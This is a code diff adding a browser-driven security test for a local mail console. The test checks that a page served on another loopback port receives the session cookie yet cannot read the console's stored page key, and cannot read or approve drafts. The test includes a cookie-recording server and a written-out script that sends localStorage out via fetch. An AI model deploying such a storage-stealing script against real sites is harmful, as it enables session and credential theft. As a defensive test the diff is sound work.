@@ -225,7 +225,7 @@ async def test_a_refresh_that_finds_nothing_new_leaves_the_rows_in_place(
         await release.wait()
         await route.continue_()
 
-    await page.route("**/api/events", hold_the_stream)
+    await page.route(lambda url: "/console/api/events" in url, hold_the_stream)  # its query holds the key
     await sign_in(page, daemon)
     row = page.locator("#items a", has_text="Row stays put")
     await row.wait_for()
@@ -255,6 +255,97 @@ async def test_a_refresh_that_finds_nothing_new_leaves_the_rows_in_place(
     assert await page.locator("#items a", has_text="Row stays put").evaluate("a => a.dataset.marker") is None
     await page.wait_for_function("() => !document.querySelector('#inboxes a').dataset.marker")  # new counts
     assert await view_link.evaluate("a => a.dataset.marker") == "kept"  # the views did not change
+
+
+class OtherUsersServer:
+    """An HTTP server another local user runs on a loopback address: it serves one page and keeps
+    every request line and Cookie header a browser sends it."""
+
+    def __init__(self, host: str, page: str) -> None:
+        self.host, self.page = host, page
+        self.requests: list[str] = []
+        self.cookies: list[str] = []
+        self.heard_back = asyncio.Event()  # a request other than the page itself came
+        self.port = 0
+        self._server: asyncio.Server | None = None
+
+    async def __aenter__(self) -> Self:
+        self._server = await asyncio.start_server(self._serve, self.host, 0)
+        self.port = self._server.sockets[0].getsockname()[1]
+        return self
+
+    async def __aexit__(self, *exc: object) -> None:
+        assert self._server is not None
+        self._server.close()
+        await self._server.wait_closed()
+
+    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        try:
+            with anyio.fail_after(5):
+                line = (await reader.readline()).decode("latin-1").strip()
+                while header := (await reader.readline()).strip():
+                    name, _, value = header.decode("latin-1").partition(":")
+                    if name.lower() == "cookie":
+                        self.cookies.append(value.strip())
+            self.requests.append(line)
+            if not line.startswith("GET / "):
+                self.heard_back.set()
+            body = self.page.encode()
+            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n"
+                         b"Connection: close\r\n\r\n" % len(body) + body)  # fmt: skip
+            await writer.drain()
+        except (TimeoutError, OSError):
+            pass
+        finally:
+            writer.close()
+
+
+async def test_a_server_on_another_loopback_port_gets_the_cookie_but_cannot_use_the_console(
+    browser: Any, daemon: RunningDaemon, inbox: dict[str, Any]
+) -> None:
+    """Browsers send a cookie to every port of its host (SameSite compares sites, not ports). A page
+    another local user serves on 127.0.0.1 therefore receives the console's session cookie; it must
+    get nothing with it: no mail, no sending. The page key the console needs lives in the storage of
+    the console's own origin, which a page on another port cannot read."""
+    draft = await create_draft(daemon, inbox, "Held for the person", "Only the person may send this.")
+    steal = ("<script>fetch('/console/x?storage=' + encodeURIComponent(JSON.stringify(localStorage)),"
+             " {credentials: 'include'})</script>")  # fmt: skip
+    context = await browser.new_context()
+    try:
+        tab = await context.new_page()
+        tab.set_default_timeout(WAIT_MS)
+        await sign_in(tab, daemon)  # the person, through the real one-time link
+        page_key = await tab.evaluate("() => Object.values(localStorage)[0]")
+        assert page_key and "#key=" not in tab.url  # kept by the page, gone from the address bar
+        async with OtherUsersServer("127.0.0.1", steal) as thief:
+            hop = f"<script>location = 'http://127.0.0.1:{thief.port}/'</script>"
+            async with OtherUsersServer("127.0.0.2", hop) as elsewhere:  # any page on another site
+                await tab.goto(f"http://127.0.0.2:{elsewhere.port}/")
+                with anyio.fail_after(WAIT_MS / 1000):
+                    await thief.heard_back.wait()
+    finally:
+        await context.close()
+    cookie = next(
+        (part.strip() for sent in thief.cookies for part in sent.split(";") if part.strip().startswith("mam_console_")),
+        "",
+    )
+    assert cookie, thief.cookies  # what browsers do: the cookie went to the other port
+    assert page_key not in " ".join(thief.requests)  # ... but the page key did not
+    async with httpx2.AsyncClient(
+        base_url=daemon.base_url, headers={"Cookie": cookie, "Origin": daemon.base_url}
+    ) as other_user:
+        shell = await other_user.get("/console/")
+        assert shell.status_code == 200 and page_key not in shell.text
+        assert (await other_user.get("/console/api/inboxes")).status_code == 401
+        shown = await other_user.get(f"/console/api/inboxes/{inbox['id']}/drafts/{draft}")
+        assert shown.status_code == 401
+        approve = await other_user.post(
+            f"/console/api/inboxes/{inbox['id']}/drafts/{draft}/approve", json={"contentHash": "x" * 64}
+        )
+        assert approve.status_code == 401
+    async with daemon.client() as api:
+        still = await api.get(f"/v1/inboxes/{inbox['id']}/drafts/{draft}")
+        assert still.status_code == 200  # nothing was sent
 
 
 async def test_an_html_mail_runs_no_script_and_loads_nothing_until_asked(
